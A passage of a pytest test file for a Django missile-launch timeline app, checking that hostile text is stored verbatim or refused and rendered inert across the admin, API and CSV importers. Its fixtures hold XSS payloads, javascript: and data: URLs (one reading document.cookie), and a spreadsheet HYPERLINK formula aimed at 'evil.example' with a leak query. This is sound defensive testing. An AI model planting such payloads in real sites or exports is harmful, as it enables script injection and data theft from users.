"""Hostile input: markup, script URLs, spreadsheet formulas, oversized and NUL-laden text,
Korean, Cyrillic and right-to-left text, through the admin, the API and the importers.

Each value is stored byte for byte or refused with a message naming the field (and nothing
is written); whatever is stored stays inert on every page, feed and CSV export.
"""

import csv
import datetime
import io
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import Group, Permission, User
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils.html import escape
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from editorial.models import Status
from imports.models import ImportJob
from imports.readers.chronology import CHRONOLOGY_COLUMNS, LAUNCH_EXTRA_COLUMNS
from imports.readers.events import EVENT_COLUMNS
from imports.services import events_import, launches_import
from reactions.models import Actor, Speaker, Statement
from timeline.models import Event, Launch, LaunchClaim, Link, Source
from webhooks.models import Subscription

from .factories import (
    ClaimFactory,
    EventFactory,
    LaunchFactory,
    LinkFactory,
    SourceFactory,
    SpeakerFactory,
    StatementFactory,
)

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": '"><svg onload=alert(1)>',
    "hyperlink": '=HYPERLINK("http://evil.example/?leak","Click me")',
    "plus": "+1",
    "minus": "-1+2",
    "at-sum": "@SUM(A1)",
    "korean": "북한이 탄도미사일을 발사했다",
    "cyrillic": "Песков заявил",
    "arabic": "أطلقت كوريا الشمالية",
    "rtl-override": "\u202eevil\u202c txt.exe",
}
MARKUP = {PAYLOADS["script"], PAYLOADS["img-onerror"], PAYLOADS["svg-onload"]}
# Fragments that would run if any markup payload reached a page unescaped.
LIVE_MARKUP = ["<script>alert", "<img src=x onerror", "<svg onload"]
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SCRIPT_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(document.cookie)",
    "javascript://news.example/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
# A valid http URL that carries markup in its query: stored as sent, escaped where shown.
MARKUP_URL = 'https://news.example/?q="><script>alert(1)</script>'
NUL = "before\x00after"
# Characters that are not text, each with the message that refuses it. Inside the value: at
# either end, the writers' whitespace trimming would remove some of them before any rule.
NOT_TEXT = {
    "start-of-heading": ("\x01", "Control characters are not allowed: U+0001."),
    "vertical-tab": ("\x0b", "Control characters are not allowed: U+000B."),
    "form-feed": ("\x0c", "Control characters are not allowed: U+000C."),
    "escape": ("\x1b", "Control characters are not allowed: U+001B."),
    "unit-separator": ("\x1f", "Control characters are not allowed: U+001F."),
    "delete": ("\x7f", "Control characters are not allowed: U+007F."),
    "c1-next-line": ("\x85", "Control characters are not allowed: U+0085."),
    "fffe": ("\ufffe", "Unicode noncharacters are not allowed: U+FFFE."),
    "ffff": ("\uffff", "Unicode noncharacters are not allowed: U+FFFF."),
    "fdd0": ("\ufdd0", "Unicode noncharacters are not allowed: U+FDD0."),
    "plane-16-noncharacter": ("\U0010ffff", "Unicode noncharacters are not allowed: U+10FFFF."),
    "lone-surrogate": ("\ud800", "Surrogate characters are not allowed: U+D800."),
}
LINE_BREAKS = "one\ttab,\na new line\r\nand a carriage return"

# The free-text fields of each model: what an analyst types and readers see.
TEXT_FIELDS = {
    Launch: [
        "time_note",
        "count_note",
        "missile_type_label",
        "missile_name",
        "launch_site",
        "direction",
        "outcome_note",
        "reporting_authority",
        "summary",
        "notes",
    ],
    Event: ["kind_label", "title", "date_note", "location", "participants", "description"],
    Source: ["title", "publisher", "language"],
    LaunchClaim: ["value_text", "claimant", "note"],
    Link: ["rationale"],
    Statement: ["quote", "original_text", "original_language", "summary", "via"],
    Speaker: ["name", "role"],
    Actor: ["name", "short_name"],
    Subscription: ["name"],
}
# Identifiers an editor may type in the admin; the API sets them otherwise.
ADMIN_ONLY_FIELDS = {Launch: ["external_id"], Event: ["external_id"]}
# The models whose text refuses every character that is not text; a webhook subscription's
# name still refuses only NUL.
TEXT_RULE_MODELS = list(TEXT_FIELDS)


def max_length(model, name):
    return model._meta.get_field(name).max_length


def fitting(model, names, text):
    """The fields of `names` long enough to hold `text`; shorter ones have their own tests."""
    return [n for n in names if max_length(model, n) is None or len(text) <= max_length(model, n)]


def too_long(model, name):
    """Korean text one character over the limit: counted in characters, not bytes."""
    return "북" * (max_length(model, name) + 1)


def as_exported(text):
    """A CSV cell as a spreadsheet must receive it: formulas made text, all else untouched."""
    return f"'{text}" if text.startswith(FORMULA_TRIGGERS) else text


def megabyte_quote():
    """About 1 MB of UTF-8: Korean, Cyrillic, Arabic and markup, with many distinct words."""
    parts, size, n = [], 0, 0
    while size < 1_000_000:
        part = f"{PAYLOADS['cyrillic']} {n}: {PAYLOADS['korean']} {PAYLOADS['arabic']} w{n}x. "
        parts.append(part)
        size += len(part.encode())
        n += 1
    # Every writer trims the whitespace around a value, so the quote ends in a word.
    return PAYLOADS["script"] + "".join(parts).rstrip()


def payload_params():
    return pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))


def field_params(models, *, extra=None, limited=False):
    cases = [
        (model, name)
        for model in models
        for name in TEXT_FIELDS[model] + (extra or {}).get(model, [])
        if not limited or max_length(model, name) is not None
    ]
    return pytest.mark.parametrize(
        ("model", "field"), cases, ids=[f"{m._meta.model_name}.{f}" for m, f in cases]
    )


@pytest.fixture(autouse=True)
def _fresh_throttles():
    cache.clear()


@pytest.fixture
def editor_user():
    user = User.objects.create_user("editor", is_staff=True)
    user.groups.add(Group.objects.get(name="Editor"))
    user.user_permissions.add(
        *Permission.objects.filter(
            content_type__app_label="webhooks", codename__endswith="_subscription"
        ),
        *Permission.objects.filter(codename__in=["add_importjob", "view_importjob"]),
    )
    return user


@pytest.fixture
def editor(client, editor_user):
    client.force_login(editor_user)
    return client


@pytest.fixture
def editor_api(editor_user):
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=editor_user).key}")
    return api


@pytest.fixture
def world(settings):
    """A published launch, event, source and speaker for records to hang from."""
    settings.WEBHOOKS_ALLOW_PRIVATE_TARGETS = True
    launch = LaunchFactory(slug="2024-03-01-srbm", occurred_on=datetime.date(2024, 3, 1))
    event = EventFactory(slug="un-sanctions", start_date=datetime.date(2024, 2, 27))
    source = SourceFactory(url="https://news.example/report")
    launch.sources.add(source)
    return {
        "launch": launch,
        "event": event,
        "source": source,
        "link": LinkFactory(launch=launch, event=event, source=source),
        "claim": ClaimFactory(launch=launch, source=source),
        "speaker": SpeakerFactory(actor=Actor.objects.get(code="RU"), name="Dmitry Peskov"),
        "statement": StatementFactory(launch=launch, source=source),
        "actor": Actor.objects.get(code="US"),
        "other_launch": LaunchFactory(slug="2024-03-04-srbm"),
    }


def counts():
    return {model: model.objects.count() for model in TEXT_FIELDS}


# ---------------------------------------------------------------------------------------
# The admin: the change forms, posted as a browser posts them.


class FormFields(HTMLParser):
    """The fields of an admin change form, with the values a browser would submit."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.data, self.in_form = {}, False
        self.select, self.options, self.textarea = None, [], None

    def add(self, name, value):
        self.data.setdefault(name, []).append(value)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.in_form = attrs.get("id", "").endswith("_form")
        if not self.in_form or (not attrs.get("name") and tag != "option"):
            return
        if tag == "input":
            kind = attrs.get("type", "text")
            if kind in {"submit", "button", "file", "image", "reset"}:
                return
            if kind in {"checkbox", "radio"} and "checked" not in attrs:
                return
            self.add(attrs["name"], attrs.get("value") or ("on" if kind == "checkbox" else ""))
        elif tag == "select":
            self.select, self.options = attrs, []
        elif tag == "option" and self.select is not None:
            self.options.append((attrs.get("value", ""), "selected" in attrs))
        elif tag == "textarea":
            self.textarea = (attrs["name"], [])

    def handle_data(self, data):
        if self.textarea:
            self.textarea[1].append(data)

    def handle_endtag(self, tag):
        if tag == "form":
            self.in_form = False
        elif tag == "select" and self.select is not None:
            chosen = [value for value, selected in self.options if selected]
            if not chosen and self.options and "multiple" not in self.select:
                chosen = [self.options[0][0]]
            for value in chosen:
                self.add(self.select["name"], value)
            self.select = None
        elif tag == "textarea" and self.textarea:
            name, parts = self.textarea
            # Browsers drop the newline that follows <textarea>, as Django renders it.
            self.add(name, "".join(parts).removeprefix("\n"))
            self.textarea = None


def admin_url(model, action, *args):
    meta = model._meta
    return reverse(f"admin:{meta.app_label}_{meta.model_name}_{action}", args=args)


def admin_post(client, instance, changes):
    """Open the record's change form, change some fields, and save it."""
    url = admin_url(type(instance), "change", instance.pk)
    page = client.get(url)
    assert page.status_code == 200
    parser = FormFields()
    parser.feed(page.content.decode())
    data = parser.data | {name: [value] for name, value in changes.items()}
    return client.post(url, data)


def form_errors(response):
    """{field: [messages]} of the main form of an admin change page that was not saved."""
    assert response.status_code == 200, "the form was saved"
    return response.context["adminform"].form.errors


ADMIN_RECORDS = {
    Launch: lambda w: w["launch"],
    Event: lambda w: w["event"],
    Source: lambda w: w["source"],
    LaunchClaim: lambda w: w["claim"],
    Link: lambda w: w["link"],
    Statement: lambda w: w["statement"],
    Speaker: lambda w: w["speaker"],
    Actor: lambda w: w["actor"],
    Subscription: lambda w: Subscription.objects.create(
        name="Newsroom",
        target_url="https://hooks.example/salvo",
        event_types=["launch.published"],
        owner=User.objects.filter(username="editor").first(),  # the editor sees their own
    ),
}


@payload_params()
@pytest.mark.parametrize("model", list(ADMIN_RECORDS), ids=lambda m: m._meta.model_name)
def test_the_admin_stores_hostile_text_byte_for_byte_and_shows_it_inert(
    editor, world, model, payload
):
    record = ADMIN_RECORDS[model](world)
    names = fitting(model, TEXT_FIELDS[model] + ADMIN_ONLY_FIELDS.get(model, []), payload)
    response = admin_post(editor, record, dict.fromkeys(names, payload))
    assert response.status_code == 302, form_errors(response)
    record.refresh_from_db()
    assert {name: getattr(record, name) for name in names} == dict.fromkeys(names, payload)
    for page in (
        editor.get(admin_url(model, "change", record.pk)),
        editor.get(admin_url(model, "changelist")),
    ):
        html = page.content.decode()
        assert page.status_code == 200
        assert not [fragment for fragment in LIVE_MARKUP if fragment in html]


@pytest.mark.parametrize(
    "model",
    [m for m in ADMIN_RECORDS if any(max_length(m, name) for name in TEXT_FIELDS[m])],
    ids=lambda m: m._meta.model_name,
)
def test_the_admin_refuses_text_longer_than_each_field_and_writes_nothing(editor, world, model):
    record = ADMIN_RECORDS[model](world)
    names = [
        name
        for name in TEXT_FIELDS[model] + ADMIN_ONLY_FIELDS.get(model, [])
        if max_length(model, name) is not None
    ]
    before, stored = counts(), {name: getattr(record, name) for name in names}
    response = admin_post(editor, record, {name: too_long(model, name) for name in names})
    errors = form_errors(response)
    assert {name: errors.get(name) for name in names} == {
        name: [
            f"Ensure this value has at most {max_length(model, name)} characters "
            f"(it has {max_length(model, name) + 1})."
        ]
        for name in names
    }
    record.refresh_from_db()
    assert ({name: getattr(record, name) for name in names}, counts()) == (stored, before)


@pytest.mark.parametrize("model", list(ADMIN_RECORDS), ids=lambda m: m._meta.model_name)
def test_the_admin_refuses_nul_characters_naming_each_field(editor, world, model):
    record = ADMIN_RECORDS[model](world)
    names = TEXT_FIELDS[model] + ADMIN_ONLY_FIELDS.get(model, [])
    before, stored = counts(), {name: getattr(record, name) for name in names}
    response = admin_post(editor, record, dict.fromkeys(names, NUL))
    errors = form_errors(response)
    refused = ("Null characters are not allowed.",)
    assert {name: tuple(errors.get(name, ())) for name in names} == dict.fromkeys(names, refused)
    record.refresh_from_db()
    assert ({name: getattr(record, name) for name in names}, counts()) == (stored, before)


@pytest.mark.parametrize("key", ["escape", "delete", "fffe"])
@pytest.mark.parametrize("model", TEXT_RULE_MODELS, ids=lambda m: m._meta.model_name)
def test_the_admin_refuses_characters_that_are_not_text_naming_each_field(
    editor, world, model, key
):
    character, message = NOT_TEXT[key]
    record = ADMIN_RECORDS[model](world)
    names = TEXT_FIELDS[model] + ADMIN_ONLY_FIELDS.get(model, [])
    before, stored = counts(), {name: getattr(record, name) for name in names}
    response = admin_post(editor, record, dict.fromkeys(names, f"o{character}k"))
    errors = form_errors(response)
    assert {name: errors.get(name) for name in names} == {name: [message] for name in names}
    record.refresh_from_db()
    assert ({name: getattr(record, name) for name in names}, counts()) == (stored, before)


def test_the_admin_refuses_a_megabyte_quote_and_keeps_the_stored_one(editor, world):
    statement, quote = world["statement"], megabyte_quote()
    stored = statement.quote
    response = admin_post(editor, statement, {"quote": quote})
    assert form_errors(response)["quote"] == [
        f"Ensure this value has at most 20000 characters (it has {len(quote)})."
    ]
    statement.refresh_from_db()
    assert statement.quote == stored


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_the_admin_refuses_script_urls_for_sources_and_webhooks(editor, world, url):
    source = world["source"]
    response = admin_post(editor, source, {"url": url})
    assert form_errors(response)["url"] == ["Enter a valid URL."]
    subscription = ADMIN_RECORDS[Subscription](world)
    response = admin_post(editor, subscription, {"target_url": url})
    assert form_errors(response)["target_url"]
    response = editor.post(
        admin_url(Subscription, "add"),
        {"name": "Hook", "target_url": url, "event_types": ["launch.published"], "is_active": "on"},
    )
    assert form_errors(response)["target_url"]
    source.refresh_from_db()
    subscription.refresh_from_db()
    assert (source.url, subscription.target_url) == (
        "https://news.example/report",
        "https://hooks.example/salvo",
    )
    assert Subscription.objects.count() == 1


# ---------------------------------------------------------------------------------------
# The API: an editor's token.

API_CREATE = {
    "launches": (
        Launch,
        lambda w: {
            "occurred_on": "2024-03-05",
            "category": "ballistic",
            "missile_class": "SRBM",
            "sources": [w["source"].pk],
        },
    ),
    "events": (Event, lambda w: {"kind": "sanctions", "title": "T", "start_date": "2024-03-02"}),
    "sources": (Source, lambda w: {"url": "https://news.example/hostile"}),
    "claims": (
        LaunchClaim,
        lambda w: {
            "launch": w["launch"].slug,
            "attribute": "apogee",
            "value_text": "~50",
            "position": 7,
        },
    ),
    "links": (
        Link,
        lambda w: {
            "launch": w["other_launch"].slug,
            "event": w["event"].slug,
            "relation": "timed_with",
            "rationale": "R",
            "source": w["source"].pk,
        },
    ),
    "speakers": (Speaker, lambda w: {"actor": "CN", "name": "N"}),
    "statements": (
        Statement,
        lambda w: {
            "launch": w["launch"].slug,
            "actor": "JP",
            "issued_on": "2024-03-01",
            "quote": "Q",
            "stance": -2,
            "source": w["source"].pk,
        },
    ),
    "webhooks/subscriptions": (
        Subscription,
        lambda w: {
            "name": "N",
            "target_url": "https://hooks.example/salvo",
            "event_types": ["launch.published"],
        },
    ),
}


def api_create(api, world, resource, **fields):
    model, required = API_CREATE[resource]
    before = set(model.objects.values_list("pk", flat=True))
    response = api.post(f"/api/v1/{resource}/", required(world) | fields, format="json")
    created = model.objects.exclude(pk__in=before)
    return response, created


@payload_params()
@pytest.mark.parametrize("resource", list(API_CREATE))
def test_the_api_stores_hostile_text_byte_for_byte(editor_api, world, resource, payload):
    model = API_CREATE[resource][0]
    names = fitting(model, TEXT_FIELDS[model], payload)
    response, created = api_create(editor_api, world, resource, **dict.fromkeys(names, payload))
    assert response.status_code == 201, response.json()
    record = created.get()
    assert {name: getattr(record, name) for name in names} == dict.fromkeys(names, payload)
    assert {name: response.json()[name] for name in names} == dict.fromkeys(names, payload)


@payload_params()
@pytest.mark.parametrize("resource", ["launches", "events", "statements"])
def test_the_api_changes_text_byte_for_byte(editor_api, world, resource, payload):
    record = {"launches": "launch", "events": "event", "statements": "statement"}[resource]
    record = world[record]
    names = fitting(type(record), TEXT_FIELDS[type(record)], payload)
    key = getattr(record, "slug", record.pk)
    response = editor_api.patch(
        f"/api/v1/{resource}/{key}/", dict.fromkeys(names, payload), format="json"
    )
    assert response.status_code == 200, response.json()
    record.refresh_from_db()
    assert {name: getattr(record, name) for name in names} == dict.fromkeys(names, payload)


API_FIELDS = [
    (resource, name) for resource, (model, _) in API_CREATE.items() for name in TEXT_FIELDS[model]
]
API_LIMITED_FIELDS = [
    (resource, name)
    for resource, name in API_FIELDS
    if max_length(API_CREATE[resource][0], name) is not None
]


@pytest.mark.parametrize(("resource", "field"), API_LIMITED_FIELDS)
def test_the_api_refuses_text_longer_than_the_field_and_writes_nothing(
    editor_api, world, resource, field
):
    model = API_CREATE[resource][0]
    before = counts()
    limit = max_length(model, field)
    response, created = api_create(editor_api, world, resource, **{field: too_long(model, field)})
    assert response.status_code == 400
    assert response.json() == {field: [f"Ensure this field has no more than {limit} characters."]}
    assert (created.exists(), counts()) == (False, before)
    response, created = api_create(editor_api, world, resource, **{field: "북" * limit})
    assert response.status_code == 201, response.json()
    assert getattr(created.get(), field) == "북" * limit


@pytest.mark.parametrize(("resource", "field"), API_FIELDS)
def test_the_api_refuses_nul_characters_naming_the_field(editor_api, world, resource, field):
    before = counts()
    response, created = api_create(editor_api, world, resource, **{field: NUL})
    assert response.status_code == 400
    assert response.json() == {field: ["Null characters are not allowed."]}
    assert (created.exists(), counts()) == (False, before)


def test_the_api_refuses_a_webhook_target_with_a_nul_byte(editor_api, world):
    before = counts()
    response, _ = api_create(
        editor_api, world, "webhooks/subscriptions", target_url=f"https://hooks.example/{NUL}"
    )
    assert response.status_code == 400
    assert response.json() == {"target_url": ["Null characters are not allowed."]}
    assert counts() == before


@pytest.mark.parametrize("key", ["escape", "c1-next-line", "ffff"])
@pytest.mark.parametrize(
    "resource", [name for name, (model, _) in API_CREATE.items() if model in TEXT_RULE_MODELS]
)
def test_the_api_refuses_characters_that_are_not_text_naming_each_field(
    editor_api, world, resource, key
):
    character, message = NOT_TEXT[key]
    model = API_CREATE[resource][0]
    names = fitting(model, TEXT_FIELDS[model], f"o{character}k")
    before = counts()
    response, created = api_create(
        editor_api, world, resource, **dict.fromkeys(names, f"o{character}k")
    )
    assert response.status_code == 400
    assert response.json() == {name: [message] for name in names}
    assert (created.exists(), counts()) == (False, before)


def test_the_api_refuses_a_lone_surrogate_naming_the_field(editor_api, world):
    before = counts()
    body = API_CREATE["statements"][1](world) | {"quote": "o\ud800k"}
    # json.dumps escapes the surrogate as \ud800, as a client sending it would.
    response = editor_api.post(
        "/api/v1/statements/", json.dumps(body), content_type="application/json"
    )
    assert response.status_code == 400
    # REST framework's own field check and the model's rule both name it: the same words.
    assert {field: set(messages) for field, messages in response.json().items()} == {
        "quote": {"Surrogate characters are not allowed: U+D800."}
    }
    assert counts() == before


def test_the_api_refuses_a_megabyte_quote_and_writes_nothing(editor_api, world):
    before = counts()
    response, created = api_create(editor_api, world, "statements", quote=megabyte_quote())
    assert response.status_code == 400
    assert response.json() == {"quote": ["Ensure this field has no more than 20000 characters."]}
    assert (created.exists(), counts()) == (False, before)


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_the_api_refuses_script_urls_for_sources_and_webhooks(editor_api, world, url):
    before = counts()
    response, _ = api_create(editor_api, world, "sources", url=url)
    assert (response.status_code, response.json()) == (400, {"url": ["Enter a valid URL."]})
    source = world["source"]
    response = editor_api.patch(f"/api/v1/sources/{source.pk}/", {"url": url}, format="json")
    assert (response.status_code, response.json()) == (400, {"url": ["Enter a valid URL."]})
    response, _ = api_create(editor_api, world, "webhooks/subscriptions", target_url=url)
    assert response.status_code == 400
    assert list(response.json()) == ["target_url"]
    source.refresh_from_db()
    assert (source.url, counts()) == ("https://news.example/report", before)


def test_a_url_carrying_markup_is_stored_as_sent_and_shown_escaped(editor_api, client, world):
    response, created = api_create(editor_api, world, "sources", url=MARKUP_URL, title="Report")
    assert response.status_code == 201, response.json()
    source = created.get()
    assert source.url == MARKUP_URL
    world["launch"].sources.add(source)
    html = client.get(world["launch"].get_absolute_url()).content.decode()
    assert f'href="{escape(MARKUP_URL)}"' in html
    assert "<script>alert" not in html


# ---------------------------------------------------------------------------------------
# The model: what the admin, the API and the importers all go through.


@field_params(TEXT_FIELDS, extra=ADMIN_ONLY_FIELDS)
def test_the_model_refuses_nul_characters_whoever_writes(world, model, field):
    record = ADMIN_RECORDS[model](world)
    setattr(record, field, NUL)
    with pytest.raises(ValidationError) as refused:
        record.full_clean()
    assert refused.value.message_dict[field] == ["Null characters are not allowed."]


@pytest.mark.parametrize(("character", "message"), NOT_TEXT.values(), ids=list(NOT_TEXT))
@pytest.mark.parametrize("model", TEXT_RULE_MODELS, ids=lambda m: m._meta.model_name)
def test_the_model_refuses_characters_that_are_not_text_naming_each_field(
    world, model, character, message
):
    record = ADMIN_RECORDS[model](world)
    names = TEXT_FIELDS[model] + ADMIN_ONLY_FIELDS.get(model, [])
    for name in names:
        setattr(record, name, f"o{character}k")
    with pytest.raises(ValidationError) as refused:
        record.full_clean()
    errors = refused.value.message_dict
    assert {name: errors.get(name) for name in names} == {name: [message] for name in names}


@pytest.mark.parametrize("model", TEXT_RULE_MODELS, ids=lambda m: m._meta.model_name)
def test_the_model_keeps_tabs_and_line_breaks(world, model):
    record = ADMIN_RECORDS[model](world)
    names = fitting(model, TEXT_FIELDS[model], LINE_BREAKS)
    for name in names:
        setattr(record, name, LINE_BREAKS)
    record.full_clean()
    record.save()
    record.refresh_from_db()
    assert {name: getattr(record, name) for name in names} == dict.fromkeys(names, LINE_BREAKS)


@field_params(TEXT_RULE_MODELS, limited=True)
def test_the_model_refuses_text_longer_than_the_field(world, model, field):
    record = ADMIN_RECORDS[model](world)
    limit = max_length(model, field)
    setattr(record, field, too_long(model, field))
    with pytest.raises(ValidationError) as refused:
        record.full_clean()
    assert refused.value.message_dict[field] == [
        f"Ensure this value has at most {limit} characters (it has {limit + 1})."
    ]


def test_every_free_text_field_has_a_bound():
    unbounded = [
        f"{model._meta.model_name}.{name}"
        for model in TEXT_RULE_MODELS
        for name in TEXT_FIELDS[model]
        if max_length(model, name) is None
    ]
    assert unbounded == []


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_the_model_refuses_script_urls(world, url):
    source = Source(url=url)
    with pytest.raises(ValidationError) as refused:
        source.full_clean()
    assert "url" in refused.value.message_dict
    subscription = Subscription(name="Hook", target_url=url, event_types=["launch.published"])
    with pytest.raises(ValidationError) as refused:
        subscription.full_clean()
    assert "target_url" in refused.value.message_dict


# ---------------------------------------------------------------------------------------
# The importers: the chronology and events CSV files with hostile cells.

# Chronology column: the launch field it is kept in, verbatim.
CHRONOLOGY_TEXT = {
    "count_note": "count_note",
    "type": "missile_type_label",
    "missile_name": "missile_name",
    "launch_site": "launch_site",
    "direction_target": "direction",
    "outcome": "outcome_note",
    "reported_by": "reporting_authority",
    "notes": "notes",
    "time_note": "time_note",
    "summary": "summary",
}
EVENT_TEXT = {
    "title": "title",
    "location": "location",
    "description": "description",
    "date_note": "date_note",
    "actors": "participants",
}


def csv_file(columns, **cells):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns)
    writer.writeheader()
    writer.writerow(cells)
    return io.BytesIO(out.getvalue().encode())


def chronology(**cells):
    row = {
        "event_id": "L2099-001",
        "date_kst": "2024-03-01",
        "category": "ballistic",
        "type": "SRBM",
        "sources": "https://news.example/a",
    }
    return csv_file(CHRONOLOGY_COLUMNS + LAUNCH_EXTRA_COLUMNS, **row | cells)


def events_file(**cells):
    row = {
        "context_id": "C999",
        "date_start": "2024-02-27",
        "type": "sanctions",
        "title": "Sanctions",
        "sources": "https://news.example/e",
    }
    return csv_file(EVENT_COLUMNS, **row | cells)


@payload_params()
def test_the_chronology_import_keeps_hostile_cells_byte_for_byte(payload):
    report = launches_import(file=chronology(**dict.fromkeys(CHRONOLOGY_TEXT, payload)))
    assert report.ok, report.as_text()
    launch = Launch.objects.get(external_id="L2099-001")
    assert {field: getattr(launch, field) for field in CHRONOLOGY_TEXT.values()} == dict.fromkeys(
        CHRONOLOGY_TEXT.values(), payload
    )
    assert launch.import_record["row"]["notes"] == payload
    again = launches_import(file=chronology(**dict.fromkeys(CHRONOLOGY_TEXT, payload)))
    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)


@payload_params()
def test_the_events_import_keeps_hostile_cells_byte_for_byte(payload):
    report = events_import(file=events_file(**dict.fromkeys(EVENT_TEXT, payload)))
    assert report.ok, report.as_text()
    event = Event.objects.get(external_id="C999")
    assert {field: getattr(event, field) for field in EVENT_TEXT.values()} == dict.fromkeys(
        EVENT_TEXT.values(), payload
    )


def cells_to_refuse(model, columns):
    """("nul", column) for every text column; ("too-long", column) where the field has a limit."""
    return [("nul", column) for column in columns] + [
        ("too-long", column)
        for column, field in columns.items()
        if max_length(model, field) is not None
    ]


def refusals(report):
    return [(problem.row, problem.column, problem.reason) for problem in report.refused]


@pytest.mark.parametrize(("cell", "column"), cells_to_refuse(Launch, CHRONOLOGY_TEXT))
def test_the_chronology_import_refuses_nul_and_oversized_cells_naming_the_column(column, cell):
    field = CHRONOLOGY_TEXT[column]
    limit = max_length(Launch, field)
    text = NUL if cell == "nul" else too_long(Launch, field)
    report = launches_import(file=chronology(**{column: text}))
    reason = (
        "Null characters are not allowed."
        if cell == "nul"
        else f"Ensure this value has at most {limit} characters (it has {limit + 1})."
    )
    assert refusals(report) == [(2, column, reason)]
    assert f"refused row 2, column {column}: {reason}" in report.as_text()
    assert (report.written, Launch.objects.count(), Source.objects.count()) == (False, 0, 0)


@pytest.mark.parametrize(("cell", "column"), cells_to_refuse(Event, EVENT_TEXT))
def test_the_events_import_refuses_nul_and_oversized_cells_naming_the_column(column, cell):
    field = EVENT_TEXT[column]
    limit = max_length(Event, field)
    text = NUL if cell == "nul" else too_long(Event, field)
    report = events_import(file=events_file(**{column: text}))
    reason = (
        "Null characters are not allowed."
        if cell == "nul"
        else f"Ensure this value has at most {limit} characters (it has {limit + 1})."
    )
    assert refusals(report) == [(2, column, reason)]
    assert (report.written, Event.objects.count(), Source.objects.count()) == (False, 0, 0)


@pytest.mark.parametrize("column", list(CHRONOLOGY_TEXT))
def test_the_chronology_import_refuses_control_characters_naming_the_column(column):
    report = launches_import(file=chronology(**{column: "o\x0ck"}))
    assert refusals(report) == [(2, column, "Control characters are not allowed: U+000C.")]
    assert (report.written, Launch.objects.count(), Source.objects.count()) == (False, 0, 0)


@pytest.mark.parametrize("column", list(EVENT_TEXT))
def test_the_events_import_refuses_noncharacters_naming_the_column(column):
    report = events_import(file=events_file(**{column: "o\ufffek"}))
    assert refusals(report) == [(2, column, "Unicode noncharacters are not allowed: U+FFFE.")]
    assert (report.written, Event.objects.count(), Source.objects.count()) == (False, 0, 0)


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_the_importers_refuse_script_urls_as_sources(url):
    launches = launches_import(file=chronology(sources=url))
    events = events_import(file=events_file(sources=url))
    reason = f"{url!r} is neither a URL nor a known source reference"
    assert (2, "sources", reason) in refusals(launches)
    assert (2, "sources", reason) in refusals(events)
    assert (Launch.objects.count(), Event.objects.count(), Source.objects.count()) == (0, 0, 0)


def test_the_importers_refuse_a_source_url_with_a_nul_byte():
    url = f"https://news.example/{NUL}"
    launches = launches_import(file=chronology(sources=url))
    events = events_import(file=events_file(sources=url))
    reason = f"{url!r} is neither a URL nor a known source reference"
    assert (2, "sources", reason) in refusals(launches)
    assert (2, "sources", reason) in refusals(events)
    assert (Launch.objects.count(), Event.objects.count(), Source.objects.count()) == (0, 0, 0)


def test_an_uploaded_file_with_nul_bytes_is_refused_before_it_is_stored(editor):
    upload = chronology(notes=NUL)
    upload.name = "launches.csv"
    response = editor.post(
        admin_url(ImportJob, "add"), {"kind": "launches", "upload": upload, "skip_invalid": ""}
    )
    assert form_errors(response)["upload"] == [
        "The file contains null characters (NUL bytes): it is not a text file."
    ]
    assert (ImportJob.objects.count(), Launch.objects.count()) == (0, 0)


@payload_params()
def test_an_uploaded_file_with_hostile_cells_is_imported_byte_for_byte(
    editor, django_capture_on_commit_callbacks, payload
):
    upload = chronology(**dict.fromkeys(CHRONOLOGY_TEXT, payload))
    upload.name = "launches.csv"
    with django_capture_on_commit_callbacks(execute=True):
        response = editor.post(
            admin_url(ImportJob, "add"),
            {"kind": "launches", "upload": upload, "skip_invalid": ""},
        )
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert (job.status, job.report["created"]) == ("done", 1)
    launch = Launch.objects.get()
    assert {field: getattr(launch, field) for field in CHRONOLOGY_TEXT.values()} == dict.fromkeys(
        CHRONOLOGY_TEXT.values(), payload
    )
    page = editor.get(admin_url(ImportJob, "change", job.pk)).content.decode()
    assert not [fragment for fragment in LIVE_MARKUP if fragment in page]


# ---------------------------------------------------------------------------------------
# Rendering: every page, feed and export of a record written all in hostile text.


@pytest.fixture(params=list(PAYLOADS.values()), ids=list(PAYLOADS))
def hostile(request):
    """A published launch, event, link, claim, source, speaker and statements in one payload."""
    text = request.param

    def fit(model, name):
        return text if len(text) <= max_length(model, name) else "ko"

    source = SourceFactory(
        url=MARKUP_URL, title=text, publisher=text, language=fit(Source, "language")
    )
    launch = LaunchFactory(
        slug="2024-03-01-srbm",
        occurred_on=datetime.date(2024, 3, 1),
        missile_count=None,
        **dict.fromkeys(TEXT_FIELDS[Launch], text),
    )
    launch.sources.add(source)
    ClaimFactory(launch=launch, value_text=text, claimant=text, note=text, source=source)
    event = EventFactory(
        slug="un-sanctions",
        start_date=datetime.date(2024, 2, 27),
        **dict.fromkeys(TEXT_FIELDS[Event], text),
    )
    event.sources.add(source)
    LinkFactory(launch=launch, event=event, rationale=text, source=source)
    actor = Actor.objects.get(code="US")
    actor.short_name = text
    actor.save(update_fields=["short_name"])
    speaker = SpeakerFactory(actor=actor, name=text, role=text)
    statement = StatementFactory(
        launch=launch,
        actor=actor,
        speaker=speaker,
        quote=text,
        original_text=text,
        original_language=fit(Statement, "original_language"),
        summary=text,
        via=text,
        source=source,
    )
    StatementFactory(
        launch=launch,
        actor=Actor.objects.get(code="RU"),
        quote=text,
        quote_kind="paraphrase",
        source=source,
    )
    return {
        "text": text,
        "launch": launch,
